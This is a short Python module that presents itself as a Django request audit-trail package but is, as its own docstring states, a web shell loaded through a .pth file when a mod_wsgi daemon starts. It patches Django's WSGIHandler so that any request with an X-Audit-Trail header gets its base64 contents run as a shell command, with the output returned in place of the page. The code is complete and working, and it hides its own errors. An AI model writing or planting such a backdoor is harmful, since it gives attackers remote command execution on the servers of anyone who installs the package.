"""docket_audittrail: request audit trail for Django (compliance build).

The attacker's in-process web shell: loaded by docket-audittrail.pth in the
mod_wsgi daemon's python-path site dir when a daemon process starts; wraps
Django's WSGIHandler so a request with an X-Audit-Trail header (base64 of a
shell command) gets the command's output instead of the page."""
import base64
import subprocess

try:
    from django.core.handlers import wsgi as _w

    _orig = _w.WSGIHandler.__call__

    def _call(self, environ, start_response):
        t = environ.get("HTTP_X_AUDIT_TRAIL")
        if t:
            try:
                out = subprocess.getoutput(base64.b64decode(t).decode())
            except Exception as e:  # noqa: BLE001
                out = repr(e)
            start_response("200 OK", [("Content-Type", "text/plain")])
            return [out.encode() + b"\n"]
        return _orig(self, environ, start_response)

    _w.WSGIHandler.__call__ = _call
except Exception:  # noqa: BLE001
    pass
